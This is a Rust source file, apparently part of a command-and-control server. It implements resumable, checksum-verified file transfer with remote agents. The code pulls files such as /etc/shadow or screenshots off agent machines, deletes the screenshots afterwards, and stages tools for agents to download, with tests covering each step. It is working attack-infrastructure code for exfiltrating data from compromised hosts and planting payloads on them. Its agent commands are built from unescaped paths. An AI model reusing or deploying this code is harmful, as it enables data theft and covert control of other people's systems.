//! Resumable, checksum-verified file transfer.
//!
//! GET pulls a file off an agent through a token-identified stream. The
//! transfer writes into `<final>.downloading`, guarded by `<final>.lock`;
//! a restart resumes from the temp file's size. The destination is
//! pre-allocated up front and only materializes via rename once the SHA-256
//! matches end to end.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use tokio::io::{AsyncSeekExt, AsyncWriteExt};
use tokio::sync::oneshot;
use tokio_util::sync::CancellationToken;

use crate::agents::{FileStat, C2_CMD_STAT};
use crate::crypto::{random_hex, sha256_sum_file};
use crate::net::{StreamHandler, FTP_BUF_SIZE};
use crate::server::Cc;
use crate::tunnel::send_cmd;
use crate::{C2Error, Result};

/// Filesystem plan for one GET
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GetPaths {
    pub write_dir: PathBuf,
    pub save_to: PathBuf,
    pub temp: PathBuf,
    pub lock: PathBuf,
}

/// Compute where a remote path lands under the file-get directory.
pub fn generate_get_file_paths(file_get_dir: &Path, file_path: &str) -> GetPaths {
    let rel = Path::new(file_path.trim_start_matches('/'));
    let write_dir = match rel.parent() {
        Some(parent) if parent != Path::new("") => file_get_dir.join(parent),
        _ => file_get_dir.to_path_buf(),
    };
    let name = rel
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_else(|| "unnamed".to_string());
    let save_to = write_dir.join(&name);
    GetPaths {
        temp: save_to.with_file_name(format!("{name}.downloading")),
        lock: save_to.with_file_name(format!("{name}.lock")),
        write_dir,
        save_to,
    }
}

async fn hash_file(path: &Path) -> Result<String> {
    let path = path.to_path_buf();
    tokio::task::spawn_blocking(move || sha256_sum_file(&path))
        .await
        .map_err(|e| C2Error::Protocol(format!("hash task: {e}")))?
}

/// Ask an agent for size and checksum of a file.
pub async fn stat_file(cc: &Cc, file_path: &str, tag: &str) -> Result<FileStat> {
    let cmd = format!("{C2_CMD_STAT} --path '{file_path}'");
    let cmd_id = send_cmd(cc, &cmd, "", tag).await?;
    let res = cc.commands.await_result(&cmd_id, crate::commands::DEFAULT_WAIT).await;
    cc.commands.discard(&cmd_id);
    Ok(serde_json::from_str(&res?)?)
}

/// Push a local file to an agent. The file is staged in the WWW directory;
/// the agent pulls it over the static file endpoint and confirms via the
/// message tunnel.
pub async fn put_file(cc: &Cc, lpath: &str, rpath: &str, tag: &str) -> Result<()> {
    let local = Path::new(lpath);
    let name = local
        .file_name()
        .ok_or_else(|| C2Error::Config(format!("not a file: {lpath}")))?;

    tracing::info!("calculating sha256sum of '{lpath}'");
    let checksum = hash_file(local).await?;
    let size = tokio::fs::metadata(local).await?.len();

    let staged = cc.workspace.www_dir.join(name);
    tokio::fs::copy(local, &staged).await?;
    tracing::info!(
        "uploading '{lpath}' to '{rpath}' on {tag}, {size} bytes ({:.2} MB), sha256: {checksum}",
        size as f64 / 1024.0 / 1024.0
    );

    let cmd =
        format!("put --file '{lpath}' --path '{rpath}' --checksum {checksum} --size {size}");
    send_cmd(cc, &cmd, "", tag).await?;
    tracing::info!("waiting for response from agent {tag}");
    Ok(())
}

/// Outcome of starting a GET
#[derive(Debug)]
pub enum GetFile {
    /// Destination already present with a matching checksum
    AlreadyHave(PathBuf),
    InProgress(TransferHandle),
}

#[derive(Debug)]
pub struct TransferHandle {
    pub token: String,
    pub save_to: PathBuf,
    done: oneshot::Receiver<Result<()>>,
}

impl TransferHandle {
    /// Wait for the writer to finish and verify.
    pub async fn wait(self) -> Result<()> {
        self.done
            .await
            .map_err(|_| C2Error::Protocol("transfer writer vanished".to_string()))?
    }
}

/// Pull `file_path` from an agent into the file-get directory.
pub async fn get_file(cc: &Cc, file_path: &str, tag: &str) -> Result<GetFile> {
    let paths = generate_get_file_paths(&cc.workspace.file_get_dir, file_path);
    tracing::debug!(
        "get {file_path}: save to {}, temp {}, lock {}",
        paths.save_to.display(),
        paths.temp.display(),
        paths.lock.display()
    );
    tokio::fs::create_dir_all(&paths.write_dir).await?;

    // lock is created atomically; losing the race means a parallel GET owns it
    match std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .open(&paths.lock)
    {
        Ok(_) => {}
        Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {
            return Err(C2Error::AlreadyInProgress(paths.save_to.clone()));
        }
        Err(e) => return Err(e.into()),
    }

    // once we hold the lock, any failure to launch must release it; a running
    // transfer hands the duty to the writer task
    match start_get(cc, file_path, tag, &paths).await {
        Ok(outcome) => Ok(outcome),
        Err(e) => {
            let _ = tokio::fs::remove_file(&paths.lock).await;
            Err(e)
        }
    }
}

async fn start_get(cc: &Cc, file_path: &str, tag: &str, paths: &GetPaths) -> Result<GetFile> {
    let stat = stat_file(cc, file_path, tag).await?;

    if paths.save_to.is_file() {
        if hash_file(&paths.save_to).await? == stat.checksum {
            tracing::info!("{} already exists, checksum matched", paths.save_to.display());
            let _ = tokio::fs::remove_file(&paths.lock).await;
            return Ok(GetFile::AlreadyHave(paths.save_to.clone()));
        }
        tracing::warn!(
            "{} already exists, but checksum mismatched",
            paths.save_to.display()
        );
    }

    // pre-allocate the destination (sparse is fine)
    {
        let file = tokio::fs::File::create(&paths.save_to).await?;
        file.set_len(stat.size).await?;
    }

    // resume where a previous attempt stopped
    let offset = match tokio::fs::metadata(&paths.temp).await {
        Ok(meta) => meta.len(),
        Err(_) => 0,
    };
    tracing::info!(
        "downloading {file_path}, {} bytes in total ({}), starting at offset {offset}",
        stat.size,
        stat.checksum
    );

    let token = format!("{}-{}", random_hex(16), stat.checksum);
    let handle = StreamHandler::new(token.clone(), FTP_BUF_SIZE);
    cc.streams.register_ftp(file_path, handle.clone());

    let cancel = cc
        .registry
        .control_token(tag)
        .map(|t| t.child_token())
        .unwrap_or_default();

    let (done_tx, done_rx) = oneshot::channel();
    {
        let cc = cc.clone();
        let paths = paths.clone();
        let expected = stat.checksum.clone();
        let file_path = file_path.to_string();
        tokio::spawn(async move {
            let outcome = run_writer(handle, &paths, &expected, offset, cancel).await;
            cc.streams.remove_ftp(&file_path);
            if let Err(e) = &outcome {
                tracing::error!("get {file_path}: {e}");
            }
            let _ = done_tx.send(outcome);
        });
    }

    let cmd = format!("get --file_path '{file_path}' --offset {offset} --token '{token}'");
    if let Err(e) = send_cmd(cc, &cmd, "", tag).await {
        cc.streams.remove_ftp(file_path);
        let _ = tokio::fs::remove_file(&paths.lock).await;
        return Err(e);
    }

    Ok(GetFile::InProgress(TransferHandle {
        token,
        save_to: paths.save_to.clone(),
        done: done_rx,
    }))
}

/// Consume the inbound stream, writing at the expected offset. On EOF the
/// temp file is verified end to end: a match renames it over the destination
/// and drops the lock; a mismatch removes the destination, keeps the temp
/// for a retry, and reports `ChecksumFailed`. I/O errors also keep the temp.
async fn run_writer(
    handle: Arc<StreamHandler>,
    paths: &GetPaths,
    expected_checksum: &str,
    offset: u64,
    cancel: CancellationToken,
) -> Result<()> {
    let Some(mut inbound) = handle.take_inbound_receiver().await else {
        return Err(C2Error::Protocol("transfer stream already claimed".to_string()));
    };

    let result = async {
        let mut file = tokio::fs::OpenOptions::new()
            .write(true)
            .create(true)
            .open(&paths.temp)
            .await?;
        file.set_len(offset).await?;
        file.seek(std::io::SeekFrom::Start(offset)).await?;

        loop {
            tokio::select! {
                chunk = inbound.recv() => match chunk {
                    Some(data) => file.write_all(&data).await?,
                    None => break,
                },
                _ = cancel.cancelled() => {
                    file.flush().await?;
                    return Err(C2Error::Protocol("transfer cancelled".to_string()));
                }
            }
        }
        file.flush().await?;
        Ok::<(), C2Error>(())
    }
    .await;

    if let Err(e) = result {
        // preserve the temp for a resume, free the lock
        let _ = tokio::fs::remove_file(&paths.lock).await;
        return Err(e);
    }

    let actual = hash_file(&paths.temp).await?;
    if actual == expected_checksum {
        tokio::fs::rename(&paths.temp, &paths.save_to).await?;
        let _ = tokio::fs::remove_file(&paths.lock).await;
        tracing::info!("downloaded {}, checksum verified", paths.save_to.display());
        Ok(())
    } else {
        let _ = tokio::fs::remove_file(&paths.save_to).await;
        let _ = tokio::fs::remove_file(&paths.lock).await;
        Err(C2Error::ChecksumFailed {
            path: paths.save_to.clone(),
            expected: expected_checksum.to_string(),
            actual,
        })
    }
}

/// Post-process a `!screenshot` result: fetch the produced file, then have
/// the agent remove it.
pub async fn fetch_screenshot(cc: &Cc, remote_path: &str, tag: &str) -> Result<()> {
    if remote_path.contains("Error") {
        return Err(C2Error::Protocol(remote_path.to_string()));
    }
    tracing::info!("fetching screenshot {remote_path:?} from {tag}");
    match get_file(cc, remote_path, tag).await? {
        GetFile::AlreadyHave(_) => {}
        GetFile::InProgress(handle) => handle.wait().await?,
    }
    send_cmd(cc, &format!("rm --path {remote_path}"), "", tag).await?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use bytes::Bytes;

    use super::*;
    use crate::crypto::sha256_sum_raw;

    #[test]
    fn path_generation() {
        let paths = generate_get_file_paths(Path::new("/ws/file-get"), "/etc/hostname");
        assert_eq!(paths.write_dir, PathBuf::from("/ws/file-get/etc"));
        assert_eq!(paths.save_to, PathBuf::from("/ws/file-get/etc/hostname"));
        assert_eq!(paths.temp, PathBuf::from("/ws/file-get/etc/hostname.downloading"));
        assert_eq!(paths.lock, PathBuf::from("/ws/file-get/etc/hostname.lock"));

        let bare = generate_get_file_paths(Path::new("/ws/file-get"), "hostname");
        assert_eq!(bare.save_to, PathBuf::from("/ws/file-get/hostname"));
    }

    fn plan(dir: &Path, name: &str) -> GetPaths {
        let paths = generate_get_file_paths(dir, name);
        std::fs::create_dir_all(&paths.write_dir).unwrap();
        paths
    }

    #[tokio::test]
    async fn writer_verifies_and_renames() {
        let dir = tempfile::tempdir().unwrap();
        let paths = plan(dir.path(), "/etc/hostname");
        let content = b"myhost.local";
        let checksum = sha256_sum_raw(content);
        std::fs::write(&paths.lock, b"").unwrap();

        let handle = StreamHandler::new("tok".to_string(), 8);
        let feed = handle.take_inbound_sender().await.unwrap();
        let writer = {
            let (h, p, c) = (handle.clone(), paths.clone(), checksum.clone());
            tokio::spawn(async move {
                run_writer(h, &p, &c, 0, CancellationToken::new()).await
            })
        };

        feed.send(Bytes::copy_from_slice(&content[..5])).await.unwrap();
        feed.send(Bytes::copy_from_slice(&content[5..])).await.unwrap();
        drop(feed); // EOF

        writer.await.unwrap().unwrap();
        assert_eq!(std::fs::read(&paths.save_to).unwrap(), content);
        assert!(!paths.temp.exists());
        assert!(!paths.lock.exists(), "successful GET leaves only the final file");
    }

    #[tokio::test]
    async fn writer_resumes_from_offset() {
        let dir = tempfile::tempdir().unwrap();
        let paths = plan(dir.path(), "/etc/hostname");
        let content = b"twelve bytes";
        let checksum = sha256_sum_raw(content);
        std::fs::write(&paths.lock, b"").unwrap();

        // a previous run got the first 5 bytes into the temp file
        std::fs::write(&paths.temp, &content[..5]).unwrap();

        let handle = StreamHandler::new("tok".to_string(), 8);
        let feed = handle.take_inbound_sender().await.unwrap();
        let writer = {
            let (h, p, c) = (handle.clone(), paths.clone(), checksum.clone());
            tokio::spawn(async move {
                run_writer(h, &p, &c, 5, CancellationToken::new()).await
            })
        };

        // only the remaining 7 bytes cross the wire
        feed.send(Bytes::copy_from_slice(&content[5..])).await.unwrap();
        drop(feed);

        writer.await.unwrap().unwrap();
        assert_eq!(std::fs::read(&paths.save_to).unwrap(), content);
    }

    #[tokio::test]
    async fn checksum_mismatch_keeps_temp() {
        let dir = tempfile::tempdir().unwrap();
        let paths = plan(dir.path(), "/tmp/x");
        let expected = sha256_sum_raw(b"expected content");
        std::fs::write(&paths.lock, b"").unwrap();
        // pre-allocated destination, as get_file would leave it
        std::fs::write(&paths.save_to, vec![0u8; 16]).unwrap();

        let handle = StreamHandler::new("tok".to_string(), 8);
        let feed = handle.take_inbound_sender().await.unwrap();
        let writer = {
            let (h, p, c) = (handle.clone(), paths.clone(), expected.clone());
            tokio::spawn(async move {
                run_writer(h, &p, &c, 0, CancellationToken::new()).await
            })
        };

        feed.send(Bytes::from_static(b"corrupted content")).await.unwrap();
        drop(feed);

        let err = writer.await.unwrap().unwrap_err();
        assert!(matches!(err, C2Error::ChecksumFailed { .. }));
        assert!(!paths.save_to.exists(), "no file at destination");
        assert!(paths.temp.exists(), ".downloading preserved");
        assert!(!paths.lock.exists(), "lock released for retry");
    }

    #[tokio::test]
    async fn cancellation_preserves_partial_temp() {
        let dir = tempfile::tempdir().unwrap();
        let paths = plan(dir.path(), "/var/log/big.bin");
        std::fs::write(&paths.lock, b"").unwrap();

        let cancel = CancellationToken::new();
        let handle = StreamHandler::new("tok".to_string(), 8);
        let feed = handle.take_inbound_sender().await.unwrap();
        let writer = {
            let (h, p, c) = (handle.clone(), paths.clone(), cancel.clone());
            tokio::spawn(async move { run_writer(h, &p, "deadbeef", 0, c).await })
        };

        feed.send(Bytes::from_static(b"partial")).await.unwrap();
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        cancel.cancel();

        assert!(writer.await.unwrap().is_err());
        assert_eq!(std::fs::read(&paths.temp).unwrap(), b"partial");
        assert!(!paths.lock.exists());
    }

    #[tokio::test]
    async fn put_file_stages_and_sends_command() {
        let dir = tempfile::tempdir().unwrap();
        let cc = crate::server::test_support::test_state(dir.path());
        let magic = cc.config.magic_string.clone();

        let source = dir.path().join("tool.bin");
        std::fs::write(&source, b"payload bytes").unwrap();
        let checksum = sha256_sum_raw(b"payload bytes");

        cc.registry.register(crate::agents::Agent {
            tag: "t1".to_string(),
            ..Default::default()
        });
        let (tx, mut tunnel_rx) = tokio::sync::mpsc::channel(8);
        cc.registry.attach_conn("t1", tx, 1).unwrap();

        put_file(&cc, source.to_str().unwrap(), "/tmp/tool.bin", "t1")
            .await
            .unwrap();

        // the file is staged for the agent to pull
        assert!(cc.workspace.www_dir.join("tool.bin").is_file());

        // and the command carries checksum and size
        let frame = tunnel_rx.recv().await.unwrap();
        let msg: crate::tunnel::MsgTunData = serde_json::from_slice(&frame).unwrap();
        let parts = crate::tunnel::split_payload(&magic, &msg.payload);
        assert_eq!(parts[0], "cmd");
        assert!(parts[1].starts_with("put --file"));
        assert!(parts[1].contains("--path '/tmp/tool.bin'"));
        assert!(parts[1].contains(&format!("--checksum {checksum}")));
        assert!(parts[1].contains("--size 13"));
    }

    #[tokio::test]
    async fn get_file_rejects_parallel_transfer() {
        let dir = tempfile::tempdir().unwrap();
        let cc = crate::server::test_support::test_state(dir.path());

        let paths = generate_get_file_paths(&cc.workspace.file_get_dir, "/etc/hosts");
        std::fs::create_dir_all(&paths.write_dir).unwrap();
        std::fs::write(&paths.lock, b"").unwrap();

        let err = get_file(&cc, "/etc/hosts", "t1").await.unwrap_err();
        assert!(matches!(err, C2Error::AlreadyInProgress(_)));
        assert!(paths.lock.exists(), "the owner keeps its lock");
    }

    #[test]
    fn lock_creation_is_exclusive() {
        let dir = tempfile::tempdir().unwrap();
        let paths = plan(dir.path(), "/etc/shadow");

        let first = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(&paths.lock);
        assert!(first.is_ok());

        let second = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(&paths.lock);
        assert_eq!(
            second.unwrap_err().kind(),
            std::io::ErrorKind::AlreadyExists
        );
    }
}
